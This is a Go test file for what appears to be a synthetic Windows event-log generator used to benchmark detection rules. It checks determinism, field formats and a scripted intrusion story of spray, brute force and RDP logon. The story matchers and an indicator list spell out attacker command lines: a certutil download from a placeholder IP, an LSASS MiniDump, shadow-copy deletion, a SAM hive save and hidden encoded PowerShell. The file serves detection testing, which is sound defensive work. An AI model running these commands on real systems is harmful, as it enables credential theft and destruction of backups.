package gen

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/vigil-detect/vigil/internal/race"
)

var update = flag.Bool("update", false, "rewrite examples/events.ndjson")

// generate returns the first n events of a generator for o.
func generate(o Options, n int) [][]byte {
	g := New(o)
	out := make([][]byte, n)
	for i := range out {
		out[i] = g.Next(nil)
	}
	return out
}

// decode parses one event, keeping numbers as json.Number.
func decode(t *testing.T, i int, line []byte) map[string]any {
	t.Helper()
	d := json.NewDecoder(bytes.NewReader(line))
	d.UseNumber()
	var m map[string]any
	if err := d.Decode(&m); err != nil {
		t.Fatalf("event %d: %v\n%s", i, err, line)
	}
	if d.More() {
		t.Fatalf("event %d: trailing data\n%s", i, line)
	}
	return m
}

func TestDeterminism(t *testing.T) {
	o := Options{Seed: 42}
	a, b := generate(o, 20000), generate(o, 20000)
	for i := range a {
		if !bytes.Equal(a[i], b[i]) {
			t.Fatalf("event %d differs between runs with the same seed:\n%s\n%s", i, a[i], b[i])
		}
	}
	c := generate(Options{Seed: 43}, 20000)
	same := 0
	for i := range a {
		if bytes.Equal(a[i], c[i]) {
			same++
		}
	}
	if same > len(a)/10 {
		t.Errorf("seeds 42 and 43 share %d of %d events", same, len(a))
	}
}

func TestEventsWellFormed(t *testing.T) {
	g := New(Options{Seed: 7})
	var prev time.Time
	eventIDs := map[string]int{}
	for i := range 30000 {
		want := g.Time()
		line := g.Next(nil)
		m := decode(t, i, line)
		id, ok := m["EventID"].(json.Number)
		if !ok {
			t.Fatalf("event %d: EventID is not a number: %s", i, line)
		}
		if _, ok := m["EventRecordID"].(json.Number); !ok {
			t.Fatalf("event %d: EventRecordID is not a number: %s", i, line)
		}
		for _, k := range []string{"Channel", "Computer", "TimeCreated_SystemTime", "Provider_Name"} {
			if s, ok := m[k].(string); !ok || s == "" {
				t.Fatalf("event %d: missing %s: %s", i, k, line)
			}
		}
		for k, v := range m {
			if _, isStr := v.(string); !isStr && k != "EventID" && k != "EventRecordID" {
				t.Fatalf("event %d: %s is not a string: %s", i, k, line)
			}
		}
		ts, err := time.Parse(time.RFC3339Nano, m["TimeCreated_SystemTime"].(string))
		if err != nil {
			t.Fatalf("event %d: %v", i, err)
		}
		if !ts.Equal(want) {
			t.Fatalf("event %d: time %v, Time() said %v", i, ts, want)
		}
		if i > 0 && !ts.After(prev) {
			t.Fatalf("event %d: time %v does not follow %v", i, ts, prev)
		}
		prev = ts
		eventIDs[m["Channel"].(string)+"/"+id.String()]++
	}
	// The mix: process creation is the largest share and every kind shows up.
	procs := eventIDs["Microsoft-Windows-Sysmon/Operational/1"]
	for k, n := range eventIDs {
		if n > procs {
			t.Errorf("%s (%d) outnumbers process creation (%d)", k, n, procs)
		}
	}
	for _, k := range []string{"Sysmon/Operational/1", "Sysmon/Operational/3", "Sysmon/Operational/11", "Sysmon/Operational/13", "Security/4624", "Security/4625", "Security/4634", "Security/4672"} {
		found := false
		for id := range eventIDs {
			found = found || strings.HasSuffix(id, k)
		}
		if !found {
			t.Errorf("no %s event in the mix %v", k, eventIDs)
		}
	}
}

// storyEvent is what TestStory looks for.
type storyEvent struct {
	name  string
	match func(m map[string]any) bool
}

func field(m map[string]any, k string) string { s, _ := m[k].(string); return s }

func isEID(m map[string]any, id string) bool { return m["EventID"].(json.Number).String() == id }

func procStory(name, image, parent, cmdPart string) storyEvent {
	return storyEvent{name, func(m map[string]any) bool {
		return isEID(m, "1") && strings.HasSuffix(field(m, "Image"), image) &&
			strings.HasSuffix(field(m, "ParentImage"), parent) &&
			strings.Contains(field(m, "CommandLine"), cmdPart) &&
			field(m, "User") == `NORTHWIND\Administrator` && field(m, "Computer") == "NW-WS101.northwind.local"
	}}
}

var storyEvents = []storyEvent{
	{"RDP logon", func(m map[string]any) bool {
		return isEID(m, "4624") && field(m, "LogonType") == "10" && field(m, "IpAddress") == BruteIP && field(m, "TargetUserName") == BruteUser
	}},
	procStory("whoami", `\whoami.exe`, `\cmd.exe`, "/all"),
	procStory("net group", `\net.exe`, `\cmd.exe`, `group "domain admins" /domain`),
	procStory("net1 group", `\net1.exe`, `\net.exe`, `group "domain admins" /domain`),
	procStory("encoded powershell", `\powershell.exe`, `\cmd.exe`, "-nop -w hidden -enc "+encodePowerShell(EncodedScript)),
	procStory("certutil", `\certutil.exe`, `\powershell.exe`, "-urlcache -split -f http://203.0.113.80/a.exe C:\\Users\\Public\\a.exe"),
	procStory("lsass dump", `\rundll32.exe`, `\cmd.exe`, `C:\Windows\System32\comsvcs.dll, MiniDump `),
	procStory("shadow copies", `\vssadmin.exe`, `\cmd.exe`, "delete shadows /all /quiet"),
	procStory("SAM hive", `\reg.exe`, `\cmd.exe`, `save HKLM\SAM C:\Users\Public\sam.save`),
}

// checkStory runs a generator for o until the story is done (within limit
// events) and checks every story event is there, with the spray and brute
// force as compact as promised.
func checkStory(t *testing.T, o Options, limit int) {
	t.Helper()
	g := New(o)
	if g.StoryDone() {
		t.Fatal("story done before it began")
	}
	var sprayUsers = map[string]time.Time{}
	var bruteTimes []time.Time
	var logonAt time.Time
	seen := map[string]bool{}
	n := 0
	for ; !g.StoryDone(); n++ {
		if n == limit {
			t.Fatalf("story not done after %d events", limit)
		}
		m := decode(t, n, g.Next(nil))
		ts, _ := time.Parse(time.RFC3339Nano, field(m, "TimeCreated_SystemTime"))
		if isEID(m, "4625") {
			switch field(m, "IpAddress") {
			case SprayIP:
				sprayUsers[field(m, "TargetUserName")] = ts
			case BruteIP:
				bruteTimes = append(bruteTimes, ts)
			}
		}
		for _, se := range storyEvents {
			if se.match(m) {
				seen[se.name] = true
				if se.name == "RDP logon" {
					logonAt = ts
				}
			}
		}
	}
	if len(sprayUsers) != SprayUsers {
		t.Errorf("spray hit %d users, want %d", len(sprayUsers), SprayUsers)
	}
	var first, last time.Time
	for _, ts := range sprayUsers {
		if first.IsZero() || ts.Before(first) {
			first = ts
		}
		if ts.After(last) {
			last = ts
		}
	}
	if d := last.Sub(first); d > 2*time.Second {
		t.Errorf("spray took %v", d)
	}
	if len(bruteTimes) != BruteAttempts {
		t.Fatalf("brute force made %d attempts, want %d", len(bruteTimes), BruteAttempts)
	}
	if d := bruteTimes[len(bruteTimes)-1].Sub(bruteTimes[0]); d > 3*time.Second {
		t.Errorf("brute force took %v", d)
	}
	if !logonAt.After(bruteTimes[len(bruteTimes)-1]) {
		t.Errorf("RDP logon at %v does not follow the brute force", logonAt)
	}
	for _, se := range storyEvents {
		if !seen[se.name] {
			t.Errorf("story event %q missing", se.name)
		}
	}
	t.Logf("story done after %d events", n)
}

func TestStory(t *testing.T) {
	// Defaults: the story ends AttackAt+StoryDuration = 9.35 s in, i.e. event 9350.
	checkStory(t, Options{}, 10000)
}

func TestStoryLowRate(t *testing.T) {
	checkStory(t, Options{Seed: 1, Rate: 50, AttackAt: 2 * time.Second}, 450)
}

func TestStorySmallEstate(t *testing.T) {
	checkStory(t, Options{Seed: 3, Hosts: 1, Users: 1}, 10000)
}

func TestNoAttack(t *testing.T) {
	if g := New(Options{AttackAt: -1}); !g.StoryDone() {
		t.Fatal("StoryDone false with the attack disabled")
	}
}

// TestBackgroundBenign checks the background never shows what the starter
// rules look for, and that failed logons stay rare and scattered.
func TestBackgroundBenign(t *testing.T) {
	const rate, seconds = 1000, 300
	g := New(Options{Seed: 11, Rate: rate, AttackAt: -1})
	iocs := []string{"/all", "domain admins", " -enc ", "-w hidden", "urlcache", "comsvcs", "MiniDump",
		"delete shadows", `save HKLM\SAM`, `\Users\Public\`, "203.0.113.", "198.51.100."}
	failures := map[string][]time.Time{} // by source: host and IpAddress (127.0.0.1 is every host's own)
	nFail := 0
	for i := range rate * seconds {
		line := g.Next(nil)
		for _, ioc := range iocs {
			ioc = strings.ReplaceAll(ioc, `\`, `\\`) // as escaped in JSON
			if bytes.Contains(line, []byte(ioc)) && !(ioc == "/all" && bytes.Contains(line, []byte(`ipconfig  /all`))) {
				t.Fatalf("background event %d contains %q: %s", i, ioc, line)
			}
		}
		if !bytes.Contains(line, []byte(`"EventID":462`)) {
			continue
		}
		m := decode(t, i, line)
		ip := field(m, "IpAddress")
		if ip != "127.0.0.1" && !strings.HasPrefix(ip, "10.") {
			t.Fatalf("background logon from outside the estate: %s", line)
		}
		if isEID(m, "4625") {
			nFail++
			ts, _ := time.Parse(time.RFC3339Nano, field(m, "TimeCreated_SystemTime"))
			src := field(m, "Computer") + " " + ip
			failures[src] = append(failures[src], ts)
		}
	}
	if perMin := float64(nFail) / (seconds / 60); perMin < 0.5 || perMin > 8 {
		t.Errorf("%d background failed logons in %ds (%.1f/min)", nFail, seconds, perMin)
	}
	for src, ts := range failures {
		for i := range ts {
			j := i
			for j < len(ts) && ts[j].Sub(ts[i]) < time.Minute {
				j++
			}
			if j-i >= 3 {
				t.Errorf("%d background failures from %s within a minute", j-i, src)
			}
		}
	}
}

func TestNextDoesNotAllocate(t *testing.T) {
	if race.Enabled {
		t.Skip("the race detector's instrumentation allocates")
	}
	g := New(Options{Seed: 5})
	buf := make([]byte, 0, 16<<10)
	for range 20000 { // past the story, buffers grown
		buf = g.Next(buf[:0])
	}
	if n := testing.AllocsPerRun(5000, func() { buf = g.Next(buf[:0]) }); n != 0 {
		t.Errorf("Next allocates %.2f times per call", n)
	}
}

// Example file: seed 1, attack at 2 s, 50 events/s; 450 events (9 s) hold
// the whole story (it ends 8.35 s in) and a little background after it.
var exampleOptions = Options{Seed: 1, Rate: 50, AttackAt: 2 * time.Second}

const exampleEvents = 450

func TestExampleUpToDate(t *testing.T) {
	var want bytes.Buffer
	if err := WriteNDJSON(&want, exampleOptions, exampleEvents); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join("..", "..", "examples", "events.ndjson")
	if *update {
		if err := os.WriteFile(path, want.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	got, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want.Bytes()) {
		t.Fatalf("%s is stale; run: go test ./bench/gen -run TestExampleUpToDate -update", path)
	}
}

func BenchmarkNext(b *testing.B) {
	g := New(Options{Seed: 1})
	buf := make([]byte, 0, 16<<10)
	var bytes int64
	b.ReportAllocs()
	for b.Loop() {
		buf = g.Next(buf[:0])
		bytes += int64(len(buf))
	}
	b.SetBytes(bytes / int64(b.N))
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}
